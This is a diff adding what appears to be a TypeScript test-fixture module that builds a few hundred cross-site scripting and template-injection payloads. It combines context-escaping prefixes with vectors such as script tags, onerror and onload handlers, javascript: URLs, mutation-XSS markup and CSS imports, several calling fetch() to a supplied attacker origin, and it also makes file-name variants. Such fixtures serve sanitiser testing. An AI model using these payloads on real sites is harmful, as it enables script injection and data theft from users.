@@ -1,0 +1,56 @@
+/** What closes the place that a text stands in, and so may get out of it. */
+const BEGINNINGS = [
+  ...['', '"', "'", '-->', '</title>', '</style>', '</textarea></script>', '</span></td></tr></table>'],
+  ...['</blockquote></details>', ']]>', '\\"', '</pre></code>'],
+];
+
+/**
+ * Markup that runs a script or loads from elsewhere in a browser that is given it as it is.
+ *
+ * @param origin of the attacker
+ */
+function vectors(origin: string): string[] {
+  const run = "globalThis.owned=fetch('" + origin + "/ran')";
+  return [
+    `<script>${run}</script>`,
+    `<script src="${origin}/script.js"></script>`,
+    `<ScRiPt/x>${run}</sCrIpT>`,
+    `<img src=x onerror="${run}">`,
+    `<img src="${origin}/image.png">`,
+    `<svg/onload="${run}">`,
+    `<svg><image href="${origin}/svg.png"/></svg>`,
+    `<iframe src="javascript:parent.${run.replace('globalThis.', '')}"></iframe>`,
+    `<iframe srcdoc="&lt;script&gt;parent.owned=1&lt;/script&gt;"></iframe>`,
+    `<iframe src="${origin}/frame"></iframe>`,
+    `<object data="${origin}/object"></object>`,
+    `<embed src="${origin}/embed">`,
+    `<link rel=stylesheet href="${origin}/style.css">`,
+    `<style>@import "${origin}/import.css";</style>`,
+    `<p style="background:url(${origin}/background.png)">`,
+    `<body onload="${run}">`,
+    `<details open ontoggle="${run}"><summary>x</summary></details>`,
+    `<input autofocus onfocus="${run}">`,
+    `<video autoplay><source src="${origin}/video.mp4" onerror="${run}"></video>`,
+    `<audio src=x onerror="${run}">`,
+    `<base href="${origin}/"><img src=based.png>`,
+    `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
+    `<noscript><p title="</noscript><img src=x onerror='${run.replaceAll("'", '`')}'>">`,
+    `<meta http-equiv=refresh content="0;url=${origin}/refresh">`,
+    `<a href="javascript:${run}">x</a>`,
+    `{{{constructor.constructor("${run.replaceAll('"', "'")}")()}}}`,
+    `\${${run}}<%=${run}%>`,
+  ];
+}
+
+/** A few hundred texts, each of which would like to be more than a text. */
+export function hostileTexts(origin: string): string[] {
+  return BEGINNINGS.flatMap((beginning) => vectors(origin).map((vector) => `${beginning}${vector}`));
+}
+
+/** Those that may be the name of a file. */
+export function hostileNames(texts: readonly string[]): string[] {
+  const names = texts.map((text) => text.replaceAll('/', '\u2215')).filter((name) => Buffer.byteLength(name) < 200);
+  return [
+    ...new Set([...names, '<img src=x onerror=owned=1>', '"><script>owned=1<\u2215script>', '<svg onload=owned=1>']),
+  ];
+}
